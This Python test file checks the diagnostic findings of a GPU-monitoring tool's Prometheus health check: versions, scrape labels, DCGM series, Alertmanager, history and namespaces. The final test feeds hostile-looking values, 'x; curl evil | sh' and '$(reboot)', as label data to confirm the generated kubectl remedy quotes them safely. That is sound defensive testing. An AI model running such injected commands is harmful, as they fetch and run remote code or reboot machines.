"""One change to a healthy Prometheus, one finding: its state, its text, what to do."""

from __future__ import annotations

import shlex
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from gpuatlas.doctor.namespaces import examine_namespaces
from gpuatlas.doctor.results import Area, State
from gpuatlas.model.doctor import DcgmSeries, SourceSight
from gpuatlas_harness.doctored import allocations, healthy_cluster, healthy_prometheus
from gpuatlas_harness.examined import found, the_one

PROMETHEUS: Mapping[str, tuple[dict[str, Any], Area, State, str, str]] = {
    "too old": (
        {"version": "2.41.0"},
        Area.PROMETHEUS,
        State.TODO,
        "Prometheus 2.41.0; 2.42 or newer is needed",
        "a Prometheus of 2.42 or newer",
    ),
    "no release": (
        {"version": ""},
        Area.PROMETHEUS,
        State.UNKNOWN,
        "its release is not told (it is another program that speaks its API); 2.42 or newer is "
        "needed",
        "",
    ),
    "renamed": (
        {"renamed": {"pods": ("exported_pod",)}},
        Area.SCRAPE,
        State.TODO,
        "job pods renames our labels to exported_pod: what is shown as pod and node is the "
        "exporter's own",
        "honorLabels: true in its ServiceMonitor (honor_labels in a plain scrape job); where it "
        "is, the Prometheus has overrideHonorLabels: let another one scrape gpuatlas",
    ),
    "no DCGM series": (
        {"dcgm": DcgmSeries()},
        Area.SCRAPE,
        State.TODO,
        "no DCGM series, and nodes offer NVIDIA's cards: H01-H12 and the boards lack them",
        "dcgmExporter.serviceMonitor.enabled=true in the GPU Operator (serviceMonitor.enabled in "
        "dcgm-exporter's chart; plain Prometheus: the job dcgm-exporter of docs/install.md in "
        "scrape_configs)",
    ),
    "DCGM without nodes": (
        {"dcgm": DcgmSeries(series=4, nodeless=1, pods=3)},
        Area.SCRAPE,
        State.TODO,
        "1 of 4 DCGM series name no node (Hostname, hostname or node)",
        "no metricRelabelings that drop Hostname in dcgm-exporter's ServiceMonitor",
    ),
    "DCGM without pods": (
        {"dcgm": DcgmSeries(series=4, nodeless=0, pods=0)},
        Area.SCRAPE,
        State.OPTIONAL,
        "DCGM series name no pod, though pods hold cards: alerts cannot list who is hit",
        "DCGM_EXPORTER_KUBERNETES=true in dcgm-exporter's environment",
    ),
    "no Alertmanager": (
        {"alertmanagers": 0},
        Area.RULES,
        State.OPTIONAL,
        "the Prometheus knows no Alertmanager: alerts are on the boards and reach nobody",
        "alerting.alertmanagers of the Prometheus to an Alertmanager (alerts/alertmanager/)",
    ),
    "Alertmanager unknown": (
        {"alertmanagers": None, "unread": {"alertmanagers": "HTTP 404"}},
        Area.RULES,
        State.UNKNOWN,
        "whether alerts reach an Alertmanager: HTTP 404",
        "",
    ),
    "few days": (
        {"history_days": 1},
        Area.HISTORY,
        State.UNKNOWN,
        "1 day recorded, 7 are needed: until then gpuatlas sizing says that it cannot size",
        "",
    ),
    "enough days": (
        {"history_days": 7},
        Area.HISTORY,
        State.OK,
        "7 days recorded: enough to size, 14 are better",
        "",
    ),
    "a source that is down": (
        {
            "sources": (
                SourceSight(source="hami-monitor", up=False, namespace="gpu", pod="gpuatlas-0"),
            )
        },
        Area.EXPORTER,
        State.TODO,
        "the exporter gpu/gpuatlas-0 cannot read hami-monitor; its log says why",
        "kubectl -n gpu logs gpuatlas-0 | grep hami-monitor",
    ),
    "no source states": (
        {"sources": ()},
        Area.EXPORTER,
        State.UNKNOWN,
        "no gpuatlas_source_up: no exporter says what it can read",
        "",
    ),
}


@pytest.mark.parametrize("name", PROMETHEUS)
def test_what_a_prometheus_can_lack(name: str) -> None:
    changes, *expected = PROMETHEUS[name]
    assert the_one(found(**changes)) == tuple(expected)


@pytest.mark.parametrize(
    "field", ["exporters", "renamed", "holders", "dcgm", "history_days", "alertmanagers", "sources"]
)
def test_a_question_without_an_answer_is_unknown_with_its_reason(field: str) -> None:
    changes: dict[str, Any] = {field: None, "unread": {field: f"HTTP 500 for {field}"}}
    results = found(**changes)
    assert results
    assert {result.state for result in results} == {State.UNKNOWN}
    assert any(f"HTTP 500 for {field}" in result.text for result in results)


def test_an_exporter_that_is_not_scraped() -> None:
    results = found(exporters=(), sources=())
    assert [(r.word, r.state) for r in results] == [
        ("gpuatlas", State.TODO),
        ("labels", State.UNKNOWN),
        ("sources", State.UNKNOWN),
    ]
    assert results[0].text == (
        "there is no gpuatlas_build_info: this Prometheus does not scrape gpuatlas serve"
    )
    assert results[0].remedy is not None
    assert results[0].remedy.text == (
        "scrape.labels to what the Prometheus' serviceMonitorSelector wants, such as "
        "scrape.labels.release=kube-prometheus-stack (plain Prometheus: the job gpuatlas of "
        "docs/install.md in scrape_configs)"
    )


def test_an_exporter_that_is_scraped_twice() -> None:
    exporters = healthy_prometheus().exporters
    assert exporters is not None
    again = replace(exporters[0], job="kubernetes-services")
    shard = replace(exporters[0], pod="gpuatlas-1-x", instance="10.1.0.8:9836")
    assert the_one(found(exporters=(*exporters, again))) == (
        Area.SCRAPE,
        State.TODO,
        "the same gpuatlas is scraped by jobs gpuatlas, kubernetes-services: every sum counts it "
        "twice",
        "scrape.by=none in our chart, or remove the other job",
    )
    assert {r.state for r in found(exporters=(*exporters, shard))} == {State.OK}


@pytest.mark.parametrize("named", [("", ""), ("gpuatlas-0-x", "")])
def test_an_exporter_that_is_scraped_twice_by_jobs_that_name_no_pod(
    named: tuple[str, str],
) -> None:
    """As the job of docs/install.md and one that goes by annotations."""
    exporters = healthy_prometheus().exporters
    assert exporters is not None
    jobs = ("gpuatlas", "kubernetes-service-endpoints")
    both = [
        replace(exporters[0], job=job, namespace="", pod=pod)
        for job, pod in zip(jobs, named, strict=True)
    ]
    result, *_ = found(exporters=tuple(both))
    assert (result.word, result.state) == ("gpuatlas", State.TODO)
    assert "jobs gpuatlas, kubernetes-service-endpoints" in result.text
    # Pods of two clusters may have one address.
    apart = [replace(one, pod=f"gpuatlas-{at}") for at, one in enumerate(both)]
    assert {r.state for r in found(exporters=tuple(apart))} == {State.OK}


OWN = "gpu-monitoring"  # the exporter's
REAL = frozenset((held.namespace, held.pod) for held in allocations())
MOVED = frozenset((OWN, name) for _, name in REAL)


def test_a_namespace_that_is_written_over_all_others() -> None:
    """enforcedNamespaceLabel comes after the scrape: there are no labels exported_…."""
    assert the_one(found(holders=MOVED)) == (
        Area.SCRAPE,
        State.TODO,
        "all pods on cards have the exporter's own namespace gpu-monitoring, and 5 of 5 are of "
        "others, such as embed-29788920-q7z5t of batch: the Prometheus writes it over ours "
        "without keeping them",
        "excludedFromEnforcement of the Prometheus to our ServiceMonitor and PrometheusRules: its "
        "enforcedNamespaceLabel does that",
    )


def test_gone_pods_and_those_of_excluded_namespaces_hide_it_not() -> None:
    some = frozenset({(OWN, "scratch"), (OWN, "gone-a-minute-ago")})
    _, state, text, _ = the_one(found(holders=some))
    assert state is State.TODO
    assert "and 1 of 2 are of others, such as scratch of lab: " in text


@pytest.mark.parametrize(
    "holders",
    [
        REAL,
        REAL | {(OWN, "of-the-exporters-namespace")},
        # One that is rightly there is enough to know that others would be, too.
        MOVED | {("lab", "notebook-0")},
    ],
)
def test_namespaces_that_are_those_of_the_pods(holders: frozenset[tuple[str, str]]) -> None:
    assert found(holders=holders) == []


def test_pods_on_cards_may_all_be_in_the_exporters_namespace() -> None:
    exporters = healthy_prometheus().exporters
    assert exporters is not None
    at_home = replace(exporters[0], namespace="lab")
    (result,) = found(exporters=(at_home,), holders=frozenset({("lab", "scratch")}))
    assert result.state is State.OK
    assert result.text.endswith("all pods on cards are its own")


def test_namespaces_that_nobody_can_judge() -> None:
    area, state, text, _ = the_one(found(holders=frozenset()))
    assert (area, state) == (Area.SCRAPE, State.UNKNOWN)
    assert text.startswith("no pod on a card is in this Prometheus")

    _, state, text, _ = the_one(found(holders=frozenset({(OWN, "gone-a-minute-ago")})))
    assert state is State.UNKNOWN
    assert "are not in the cluster any more" in text

    blind = replace(healthy_cluster(), seen=None)
    result = examine_namespaces(blind, replace(healthy_prometheus(), holders=MOVED))
    assert result.state is State.UNKNOWN
    assert result.text.endswith("is unknown without the pods of the cluster")


def test_an_exporter_that_has_gone() -> None:
    first, *_ = found(exporters=(), gone=("gpuatlas",))
    assert first.text.startswith("gpuatlas_build_info of job gpuatlas was there within a day")
    assert first.remedy is not None
    assert first.remedy.text == "kubectl get pods -A -l app.kubernetes.io/name=gpuatlas"


# Strangers' words in commands


def test_a_label_of_a_strangers_page_is_no_part_of_a_command() -> None:
    sight = SourceSight(source="x; curl evil | sh", up=False, namespace="a b", pod="$(reboot)")
    (result,) = found(sources=(sight,))
    assert result.remedy is not None
    assert shlex.split(result.remedy.text) == [
        *("kubectl", "-n", "a b", "logs", "$(reboot)", "|", "grep", "x; curl evil | sh")
    ]
    assert "'$(reboot)'" in result.remedy.text
    (elsewhere,) = found(sources=(replace(sight, pod=""),))
    assert elsewhere.remedy is not None
    assert elsewhere.remedy.text.endswith("| grep 'x; curl evil | sh'")
